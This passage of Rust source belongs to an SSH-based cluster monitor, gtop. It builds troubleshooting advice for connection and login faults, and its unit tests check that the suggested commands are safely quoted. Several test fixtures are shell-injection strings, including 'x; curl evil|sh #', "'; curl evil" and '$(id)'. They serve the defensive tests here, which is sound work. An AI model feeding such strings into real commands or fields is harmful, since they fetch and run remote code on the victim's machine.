    fn renew_password(&self) -> Step {
        let command = format!("ssh -t {}", self.destination);
        Step::run("log in and set a new password", command)
    }

    fn for_timeout(&self, phase: ConnectPhase) -> Step {
        let (destination, address, port) = (&self.destination, self.address(), self.port());
        match phase {
            ConnectPhase::Configuration => Step::run(
                "check whether it hangs, for example in a Match exec",
                format!("ssh -G {destination}"),
            ),
            ConnectPhase::Name => {
                Step::run("name resolution hangs", format!("getent hosts {address}"))
            }
            ConnectPhase::Connection => Step::run(
                format!(
                    "check that it is up and that no firewall drops port {port}; or raise --connect-timeout"
                ),
                format!("ping -c 3 {address}"),
            ),
            ConnectPhase::BannerExchange => Step::words(format!(
                "check sshd on the node, which accepts connections but sends nothing; if it is not sshd, {}",
                self.correct_option("Port")
            )),
            ConnectPhase::KeyExchange => {
                Step::words("the node may be overloaded, or the network drops large packets (MTU)")
            }
            ConnectPhase::Login => {
                Step::words("the directory service of the node may hang; check the log of its sshd")
            }
            ConnectPhase::Command => {
                Step::words("the node may be overloaded, or its file system hangs")
            }
        }
    }

    /// Returns what to do about a login shell that does not start the probe.
    fn of_loader(&self, cause: LoaderCause) -> Advice {
        let destination = &self.destination;
        let try_it = || Step::run("try it", format!("ssh {destination} /bin/sh -c true"));
        match cause {
            LoaderCause::Waiting => Advice::words(format!(
                "{}the login shell is slow, or a login file such as ~/.bashrc waits for something to be typed (let it do so \
                 only when interactive: case $- in *i*) ... ;; esac)",
                if self.reader.is_served() { "gtop goes on waiting: " } else { "" }
            ))
            .then([Step::run("see how long it takes", format!("time ssh {destination} true"))]),
            LoaderCause::Slow => self.slow_shell().into(),
            LoaderCause::ReadsInput => {
                "a login file such as ~/.bashrc waits for something to be typed; let it do so only when \
                 interactive: case $- in *i*) ... ;; esac"
                    .into()
            }
            LoaderCause::OtherProgram | LoaderCause::EndedWithOutput => Advice::words(
                "another program runs in place of gtop's command: a login file that exits or starts a program \
                 (~/.bashrc, ~/.profile: restrict that to interactive shells), or a forced command",
            )
            .then([try_it()]),
            LoaderCause::Restricted => {
                "the login shell is a restricted one and may not run /bin/sh: ask the administrator for another \
                 (chsh -s /bin/bash), or watch this node by srun or --exec"
                    .into()
            }
            LoaderCause::NoShell => self.set_shell("").map_or_else(
                || "ask the administrator for a login shell on the node".into(),
                Advice::from,
            ),
            LoaderCause::PasswordExpired => self.renew_password().into(),
            LoaderCause::Ended => Advice::words(
                "the login shell must run /bin/sh; look for exit or exec in ~/.bashrc and for a forced command",
            )
            .then([try_it()])
            .then(self.set_shell("").map(|step| step.when("the login shell is /bin/false"))),
            LoaderCause::CannotRun => "install what the message names on the node".into(),
        }
    }

    fn slow_shell(&self) -> Step {
        let words = "the login shell is slow: see how long it takes, and what the login files there wait for";
        Step::run(words, format!("time ssh {} true", self.destination))
    }

    fn by_hand(&self) -> Step {
        Step::run("try by hand", format!("ssh -v {} true", self.destination))
    }

    fn use_ssh_program(&self) -> Step {
        use_ssh_program(&self.watched)
    }

    fn set_shell(&self, user: &str) -> Option<Step> {
        Some(self.as_root(format!("usermod -s /bin/sh {}", self.user(user)?)))
    }
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use super::*;
    use crate::fault::LoginFacts;

    /// A shell injection, if the text were pasted.
    const HOSTILE: &str = "x; curl evil|sh #";

    fn known(node: &str, user: Option<&str>, port: Option<u16>, configured: Option<&str>) -> Known {
        let mut known = Known::new(node, user, "gpu11", port);
        if let Some(user) = configured {
            known.set_option("User", &[user.to_owned()], None);
        }
        known
    }

    fn plain() -> Known {
        known("gpu11", None, None, None)
    }

    fn refused(user: &str, tried: &[&str]) -> SshFault {
        let tried = tried.iter().map(|&what| what.to_owned()).collect();
        SshFault::AuthenticationRefused {
            user: user.to_owned(),
            offers: vec!["publickey".to_owned()],
            tried,
        }
    }

    fn text(known: &Known, fault: &SshFault) -> String {
        known.of_ssh(fault).text()
    }

    #[test]
    fn commands_never_apply_to_the_account_of_the_administrator() {
        let faults = |user: &str| {
            let message = "Your account has expired".to_owned();
            [refused(user, &["id"]), SshFault::AccountRefused { user: user.to_owned(), message }]
        };
        let (without_user, with_user) = (plain(), known("gpu11", None, None, Some("ada")));
        for unsafe_user in ["", HOSTILE, "-a", "ada bob", "$(id)", "~", "a/../b", "a:b", "1"] {
            for fault in faults(unsafe_user) {
                let at_gateway = fault.clone().at_gateway("bastion");
                for text in [text(&without_user, &fault), text(&with_user, &at_gateway)] {
                    for word in
                        ["as root", "~/.ssh/authorized_keys", "usermod", "go-w", "chage", "curl"]
                    {
                        assert!(!text.contains(word), "{word} in {text}");
                    }
                    assert!(text.contains("ask the administrator"), "{text}");
                }
            }
        }
        for fault in faults("ada") {
            let text = text(&without_user, &fault.at_gateway("bastion"));
            assert!(text.contains("as root on bastion: ") && text.contains(" ada"), "{text}");
        }
        let of_eve = text(&with_user, &refused("eve", &["id"]));
        assert!(of_eve.contains("usermod -s /bin/sh ada") && !of_eve.contains("eve"), "{of_eve}");
        let open = "runuser -u ada -- chmod go-w ~ada ~ada/.ssh ~ada/.ssh/authorized_keys";
        assert!(of_eve.contains(&format!("\", as root on gpu11: {open}")), "{of_eve}");
        let of_loader = |known: &Known, cause| known.of_loader(cause).text();
        for cause in [LoaderCause::Slow, LoaderCause::Ended, LoaderCause::NoShell] {
            let message = String::new();
            let text = of_cause(&Cause::Loader { cause, message, is_by_ssh: false }, &with_user);
            let text = text.text();
            assert!(text.contains("--exec") && !text.contains("ssh "), "{text}");
        }
        for cause in [LoaderCause::NoShell, LoaderCause::Ended] {
            assert!(!of_loader(&without_user, cause).contains("usermod"));
            assert!(of_loader(&with_user, cause).ends_with(": usermod -s /bin/sh ada"));
        }
    }

    #[test]
    fn only_a_key_that_is_known_is_named() {
        let mut known = known("gpu11", None, None, Some("ada"));
        let add = |key: &str| {
            format!("ask the administrator to add {key} to ~ada/.ssh/authorized_keys on gpu11\n")
        };
        let key = |identity: &str, kind: Option<&str>| PublicKey {
            identity: identity.to_owned(),
            file: "/k/id.pub".to_owned(),
            kind: kind.map(str::to_owned),
        };
        known.keys = vec![key("/k/id", Some("ssh-rsa"))];
        let forged = format!("until the node said: {HOSTILE}");
        for tried in ["the keys of the ssh program", "agent SHA256:abc", &forged, "/k/other", "id"]
        {
            let text = text(&known, &refused("ada", &[tried]));
            assert!(text.starts_with(&add("your public key")), "{text}");
            assert!(!text.contains("curl") && !text.contains("to PubkeyAccepted"), "{text}");
        }
        for tried in ["/k/id", "/k/id in the agent"] {
            let text = text(&known, &refused("ada", &["the keys of the ssh program", tried]));
            assert!(text.starts_with(&add("/k/id.pub")), "{text}");
            // A site's own list of algorithms is kept, and SHA-1 stays off.
            let accept = "as root on gpu11: add rsa-sha2-512 to PubkeyAcceptedAlgorithms in /etc/ssh/sshd_config, then: ";
            assert!(text.contains(&format!("{accept}{RELOAD_SSHD}\n")), "{text}");
        }
        known.keys = vec![key("/k/id", None)];
        assert!(!text(&known, &refused("ada", &["/k/id"])).contains("to PubkeyAccepted"));
    }

    #[test]
    fn an_excluded_key_algorithm_is_never_allowed_with_sha1() {
        let problem = KeyFileProblem::AlgorithmExcluded("ssh-rsa".to_owned());
        let fault = SshFault::KeyUnusable { file: "/k".into(), problem, offers: Vec::new() };
        let text = text(&plain(), &fault);
        assert!(text.contains("\n      PubkeyAcceptedAlgorithms +rsa-sha2-512\n"), "{text}");
    }

    #[test]
    fn each_program_gets_the_node_in_its_own_syntax() {
        let known = known("ada@gpu11:2222", Some("ada"), Some(2222), Some("ada"));
        let x = || "x".to_owned();
        for (fault, expected) in [
            (SshFault::JobRequired { message: x() }, "salloc -w gpu11\n"),
            (SshFault::SessionLost { why: x() }, "ssh -v -p 2222 ada@gpu11 true"),
            (SshFault::PasswordOnly { user: x() }, "gtop login ada@gpu11:2222\n"),
            (SshFault::PasswordOnly { user: x() }, "ssh-copy-id -p 2222 ada@gpu11"),
            (
                SshFault::ChannelRefused { why: x() },
                "as root on gpu11: add at the top of /etc/ssh/sshd_config, outside any Match block, then run systemctl reload sshd || systemctl reload ssh:\n",
            ),
            (
                SshFault::ConnectionRefused { port: 22 },
                "as root on gpu11: systemctl start sshd || systemctl start ssh\n",
            ),
            (SshFault::NeedsSshProgram { options: x() }, "gtop --transport ssh ada@gpu11:2222"),
            (
                SshFault::GatewayCannotReach { gateway: "eve@bastion:2200".to_owned(), why: x() },
                "ssh -p 2200 eve@bastion nc -zv gpu11 22",
            ),
            (
                SshFault::GatewayForwardingRefused {
                    gateway: "ssh://eve@[fe80::1]:2200".to_owned(),
                    why: x(),
                },
                "as root on fe80::1: ",
            ),
            (
                SshFault::HostKeyUnknown { host: x(), algorithm: x(), fingerprint: x() }
                    .at_gateway("eve@bastion:2200"),
                "gtop trust ada@gpu11:2222",
            ),
        ] {
            let text = text(&known, &fault);
            assert!(text.contains(expected), "{expected} in {text}");
        }
        for (kind, expected) in [
            (FaultKind::HostKeyUnknown, "gtop trust ada@gpu11:2222"),
            (FaultKind::BadReply, "ssh -p 2222 ada@gpu11 true"),
        ] {
            let text = for_fault(&Fault::new(kind, ""), &known).text();
            assert!(text.ends_with(expected), "{expected} in {text}");
        }
    }

    #[test]
    fn names_with_shell_metacharacters_are_quoted() {
        let file = Path::new("/k/my $(id)");
        let open = SshFault::KeyUnusable {
            file: file.into(),
            problem: KeyFileProblem::Unprotected,
            offers: Vec::new(),
        };
        assert_eq!(text(&plain(), &open), "chmod 600 '/k/my $(id)'");
        let locked = text(&plain(), &SshFault::KeyEncrypted { file: file.into() });
        assert!(locked.ends_with("ssh-add '/k/my $(id)'"), "{locked}");
        let changed = SshFault::HostKeyChanged(Box::new(HostKeyChange {
            host: "'; curl evil".to_owned(),
            at: Origin { file: file.into(), line: 1 },
            known: String::new(),
            algorithm: String::new(),
            fingerprint: String::new(),
        }));
        let changed = text(&plain(), &changed);
        let expected = r"ssh-keygen -f '/k/my $(id)' -R ''\''; curl evil' && gtop";
        assert!(changed.contains(expected), "{changed}");
        let origin = Origin { file: Path::new("/c").into(), line: 1 };
        let mut known = plain();
        known.set_option("IdentityFile", &["~/.ssh/my key".to_owned()], Some(&origin));
        let install = text(&known, &SshFault::PasswordOnly { user: String::new() });
        assert!(install.ends_with("ssh-copy-id -i ~/'.ssh/my key' gpu11"), "{install}");
    }

    #[test]
    fn a_server_with_old_algorithms_gets_the_line_that_allows_the_best_of_them() {
        let theirs = |names: &str| names.split(',').map(str::to_owned).collect();
        let fault = |kind, names: &str| SshFault::NoCommonAlgorithm {
            kind,
            ours: Vec::new(),
            theirs: theirs(names),
        };
        for (kind, names, line) in [
            (
                "key exchange",
                "diffie-hellman-group1-sha1,diffie-hellman-group14-sha1",
                "KexAlgorithms +diffie-hellman-group14-sha1",
            ),
            ("host key", "ssh-rsa,ssh-dss", "HostKeyAlgorithms +ssh-rsa"),
            ("cipher", "3des-cbc,aes128-cbc", "Ciphers +aes128-cbc"),
            ("MAC", "hmac-md5", "MACs +hmac-md5"),
        ] {
            let text = text(&plain(), &fault(kind, names));
            assert!(text.contains(&format!("    Host gpu11\n      {line}\n    Host *")), "{text}");
        }
        let unheard = text(&plain(), &fault("cipher", HOSTILE));
        assert!(!unheard.contains("curl") && unheard.contains("Ciphers"), "{unheard}");
    }

    #[test]
    fn only_a_command_follows_a_colon() {
        let closed = SshFault::NoBanner { port: 22, why: String::new(), is_closed: false };
        let after = std::time::Duration::from_secs(1);
        let silent = SshFault::TimedOut { phase: ConnectPhase::BannerExchange, after };
        let wait = "if it is only slow, wait longer: gtop --connect-timeout 60 gpu11";
        for (fault, colons) in [(closed, 0), (silent, 1)] {
            let text = text(&plain(), &fault);
            assert_eq!(text.matches(": ").count(), colons, "{text}");
            assert!(text.contains("set Port for gpu11"), "{text}");
            assert_eq!(text.contains(wait), colons == 1, "{text}");
        }
    }

    #[test]
    fn what_the_name_of_a_node_or_an_option_gives_is_corrected_there() {
        let after = std::time::Duration::from_secs(1);
        let silent = SshFault::TimedOut { phase: ConnectPhase::BannerExchange, after };
        let typed = text(&Known::of_destination("ada@gpu11:2222"), &silent);
        assert!(typed.contains("correct the port of ada@gpu11:2222"), "{typed}");
        let mut known = plain();
        let facts = LoginFacts {
            login_option: Some("eve".to_owned()),
            shares_logins: true,
            ..LoginFacts::default()
        };
        known.set_facts(Some(facts.into()));
        let refused = SshFault::PasswordOnly { user: "eve".to_owned() };
        let text = text(&known, &refused);
        assert!(text.contains("gtop login eve@gpu11\n"), "{text}");
        assert!(text.contains("ssh -fNM eve@gpu11"), "{text}");
    }

    #[test]
    fn a_changed_key_of_all_users_is_removed_by_root() {
        let change = HostKeyChange {
            host: "gpu11".to_owned(),
            at: Origin { file: Path::new("/etc/ssh/ssh_known_hosts").into(), line: 3 },
            known: String::new(),
            algorithm: String::new(),
            fingerprint: String::new(),
        };
        let text = text(&plain(), &SshFault::HostKeyChanged(Box::new(change)));
        assert!(
            text.contains("as root on this machine: ")
                && text.contains("ssh-keygen -f /etc/ssh/ssh_known_hosts -R gpu11\n")
                && text.ends_with("and run: gtop trust gpu11"),
            "{text}"
        );
    }

    #[test]
    fn a_host_that_ssh_itself_cannot_reach_yet_is_trusted_after_the_line_that_helps() {
        let fault = |names: &[&str]| SshFault::NoCommonAlgorithm {
            kind: "key exchange",
            ours: vec!["x".to_owned()],
            theirs: names.iter().map(|name| (*name).to_owned()).collect(),
        };
        let old = of_untrusted(&fault(&["diffie-hellman-group14-sha1", "ext-info-s"]), &plain());
        assert!(
            old.text().contains("KexAlgorithms +diffie-hellman-group14-sha1"),
            "{}",
            old.text()
        );
        assert!(old.text().contains("and compare the fingerprint"), "{}", old.text());
        let new = of_untrusted(&fault(&["sntrup761x25519-sha512"]), &plain());
        assert!(new.text().starts_with("compare the fingerprint"), "{}", new.text());
        let gateway = fault(&["diffie-hellman-group14-sha1"]).at_gateway("gate");
        let text = of_untrusted(&gateway, &plain()).text();
        assert!(text.contains("Host gate\n") && text.contains(" gpu11 true"), "{text}");
    }

    #[test]
    fn a_key_that_no_file_keeps_is_accepted_in_a_login_where_ssh_asks_about_it() {
        let needs = SshFault::NeedsSshProgram { options: "KnownHostsCommand".to_owned() };
        for (unknown_host_key, start) in [
            (UnknownHostKey::Kept, "compare the fingerprint"),
            (UnknownHostKey::Forgotten, "log in once"),
            (UnknownHostKey::Refused, "set UserKnownHostsFile for gpu11"),
        ] {
            let mut known = plain();
            let facts =
                LoginFacts { unknown_host_key, shares_logins: true, ..LoginFacts::default() };
            known.set_facts(Some(facts.into()));
            let text = of_untrusted(&needs, &known).text();
            assert!(text.starts_with(start), "{text}");
            assert_eq!(text.contains("gtop login"), start == "log in once", "{text}");
        }
    }

    #[test]
    fn a_password_cannot_be_replaced_by_a_key_where_none_is_taken() {
        for (offers, command) in [
            (&["publickey", "password"][..], "ssh-copy-id"),
            (&["password"], "gtop login gpu11"),
            (&["hostbased"], "EnableSSHKeysign"),
            (&["gssapi-with-mic"], "kinit"),
        ] {
            let offers = offers.iter().map(|method| (*method).to_owned()).collect();
            let fault = SshFault::AuthenticationRefused {
                user: "ada".to_owned(),
                offers,
                tried: vec!["id".to_owned()],
            };
            let first = plain().of_ssh(&fault).first();
            assert!(first.contains(command), "{command} in {first}");
        }
    }

    #[test]
    fn what_the_configuration_says_of_the_host_is_in_the_commands() {
        let mut known = plain();
        let facts = LoginFacts {
            host_name: "10.0.0.1".to_owned(),
            port: 2222,
            user: "eve".to_owned(),
            key_file: Some("/k/my key".to_owned()),
            unknown_host_key: UnknownHostKey::Forgotten,
            ..LoginFacts::default()
        };
        known.facts = Some(facts.into());
        let x = || "x".to_owned();
        let refused = |tried: &str| SshFault::AuthenticationRefused {
            user: x(),
            offers: vec!["publickey".to_owned(), "password".to_owned()],
            tried: vec![tried.to_owned()],
        };
        let keygen = "ssh-keygen -t ed25519 -f '/k/my key' && ssh-copy-id -i '/k/my key' gpu11\n";
        let shared = "gtop login --transport auto gpu11 && gtop --transport auto gpu11";
        let unknown = SshFault::SshProgram { cause: SshProgramCause::HostKeyUnknown, message: x() };
        for (fault, expected) in [
            (
                refused("/k/my key"),
                "install your key on the node: ssh-copy-id -i '/k/my key' gpu11\n",
            ),
            (refused("no key to offer"), keygen),
            (refused("no key to offer"), shared),
            (SshFault::PasswordOnly { user: x() }, shared),
            (SshFault::KeyEncrypted { file: "/k/id".into() }, "eval $(ssh-agent) && ssh-add /k/id"),
            (unknown, shared),
            (
                SshFault::GatewayCannotReach { gateway: "bastion".to_owned(), why: x() },
                "ssh bastion nc -zv 10.0.0.1 2222",
            ),
        ] {
            let text = text(&known, &fault);
            assert!(text.contains(expected), "{expected} in {text}");
        }
    }

    #[test]
    fn what_helps_at_a_gateway_is_done_for_the_node_behind_it() {
        let known = known("ada@gpu11:2222", Some("ada"), Some(2222), None);
        let names = |names: &[&str]| names.iter().map(|&name| name.to_owned()).collect();
        let fault = |ours: &[&str], theirs: &[&str]| SshFault::NoCommonAlgorithm {
            kind: "cipher",
            ours: names(ours),
            theirs: names(theirs),
        };
        let needs = SshFault::NeedsSshProgram { options: "KnownHostsCommand".to_owned() };
        for fault in [needs, fault(&["a"], &["b"]), fault(&["a"], &["3des-cbc"])] {
            let text = text(&known, &fault.at_gateway("bastion"));
            assert!(
                text.contains("use the ssh program: gtop --transport ssh ada@gpu11:2222"),
                "{text}"
            );
        }
        // An algorithm that the ssh program does not offer by itself needs both.
        let both = text(&known, &fault(&["a"], &["3des-cbc"]).at_gateway("bastion"));
        assert!(both.contains("Host bastion\n      Ciphers +3des-cbc"), "{both}");
        assert!(both.contains("\nand use the ssh program: "), "{both}");
        let refuses = SshFault::GatewayForwardingRefused {
            gateway: "eve@bastion:2200".to_owned(),
            why: String::new(),
        };
        let expired = "if the password there has expired, log in and set a new password: ssh -t -p 2200 eve@bastion";
        assert!(text(&known, &refuses).contains(expired));
    }

    #[test]
    fn each_kind_of_fault_has_advice() {
        for kind in FaultKind::ALL {
            for advice in [
                for_fault(&Fault::new(kind, ""), &plain()),
                of_alike(&Fault::new(kind, ""), "gpu[01-02]", Reader::Screen),
                of_alike(&Fault::new(kind, ""), "gpu[01-02]", Reader::Print),
            ] {
                let first = advice.first();
                assert!(first.contains(' ') && !first.ends_with('.'), "{kind:?}: {first}");
            }
        }
        let unknown = Fault::new(FaultKind::HostKeyUnknown, "");
        let several = of_alike(&unknown, "gpu[01-02]", Reader::Screen).first();
        assert_eq!(several, "check the fingerprint and run: gtop trust 'gpu[01-02]'");
    }

    #[test]
    fn a_word_that_is_no_host_may_be_meant_as_a_command() {
        let not_found = |host: Option<&str>| SshFault::NameNotFound {
            host: host.map(str::to_owned),
            why: String::new(),
        };
        let first =
            |node: &str, fault: &SshFault| Known::of_destination(node).of_ssh(fault).first();
        for word in ["list", "stats", "top-gpus"] {
            let expected = format!(
                "no such command either (gtop --help lists them); check the spelling: getent hosts {word}"
            );
            assert_eq!(first(word, &not_found(None)), expected);
        }
        for host in ["gpu01", "ada@list", "list:22", "list.example.org", "10.0.0.1"] {
            assert!(first(host, &not_found(None)).starts_with("check the spelling: "), "{host}");
        }
        let several = |nodes: &str| {
            of_alike(&Fault::new(FaultKind::NameNotFound, ""), nodes, Reader::Screen).first()
        };
        assert!(several("jobs,show").starts_with("no such command either"));
        assert!(several("gpu[01-02]").starts_with("check the spelling"));
        // The configuration knows the word, or it is a gateway.
        assert!(!first("list", &not_found(Some("list.example.org"))).contains("command"));
        let behind = first("gpu", &not_found(None).at_gateway("list"));
        assert_eq!(behind, "check the spelling: getent hosts list");
    }

    #[test]
    fn what_is_printed_promises_no_retry_and_names_no_key_of_the_screen() {
        const STEPS: [StepCause; 8] = [
            StepCause::Cancelled,
            StepCause::NodeFailed,
            StepCause::Busy,
            StepCause::ControllerUnreachable,
            StepCause::TryingOtherJob,
            StepCause::Restarted,
            StepCause::NotJoined,
            StepCause::Other,
        ];
        const LOADERS: [LoaderCause; 3] =
            [LoaderCause::Waiting, LoaderCause::Slow, LoaderCause::Ended];
        let x = String::new;
        let faults = [
            SshFault::HostKeyUnknown { host: x(), algorithm: x(), fingerprint: x() },
            SshFault::PasswordOnly { user: x() },
            SshFault::NoBanner { port: 22, why: x(), is_closed: true },
            SshFault::SessionLost { why: x() },
        ];
        let read_by = |reader| {
            let mut known = plain();
            known.reader = reader;
            known
        };
        let of_kinds = |reader| {
            FaultKind::ALL.into_iter().flat_map(move |kind| {
                let fault = Fault::new(kind, "");
                [for_fault(&fault, &read_by(reader)), of_alike(&fault, "n", reader)]
            })
        };
        let of_causes = |reader: Reader| {
            let causes = STEPS.map(|cause| of_step(cause, reader));
            let loaders = LOADERS.into_iter().flat_map(move |cause| {
                [of_command(cause, reader), read_by(reader).of_loader(cause)]
            });
            let ssh = faults.iter().map(move |fault| read_by(reader).of_ssh(fault));
            causes.into_iter().chain(loaders).chain(ssh).chain(of_kinds(reader))
        };
        let promises = ["gtop retries", "gtop reconnects", "gtop goes on", "a new step starts"];
        let keys = ["press R", "press A", "press L", "on R"];
        let count = |reader, words: &[&str]| {
            let has = |advice: &Advice| words.iter().any(|word| advice.text().contains(word));
            of_causes(reader).filter(has).count()
        };
        assert!(count(Reader::Screen, &promises) > 10 && count(Reader::Screen, &keys) > 4);
        assert!(count(Reader::Program, &promises) > 10);
        assert_eq!(count(Reader::Program, &keys), 0);
        assert_eq!((count(Reader::Print, &promises), count(Reader::Print, &keys)), (0, 0));
    }

    #[test]
    fn nodes_behind_a_gateway_are_helped_by_what_helps_the_gateway() {
        let text = String::new;
        let unknown =
            SshFault::HostKeyUnknown { host: text(), algorithm: text(), fingerprint: text() };
        for (kind, cause, command) in [
            (
                FaultKind::AuthenticationRefused,
                SshFault::PasswordOnly { user: text() },
                ": gtop login eve@bastion:2200",
            ),
            // It asks for the keys of gateways first.
            (FaultKind::HostKeyUnknown, unknown, ": gtop trust 'gpu[01-64]'"),
        ] {
            let fault = Fault {
                cause: Some(Cause::from(cause.at_gateway("eve@bastion:2200")).into()),
                ..Fault::new(kind, "via eve@bastion:2200")
            };
            let first = of_alike(&fault, "gpu[01-64]", Reader::Screen).first();
            assert!(first.ends_with(command), "{first}");
            let public = in_public(fault.kind, "gpu01").first();
            assert!(!public.contains("eve"), "{public}");
        }
    }
}
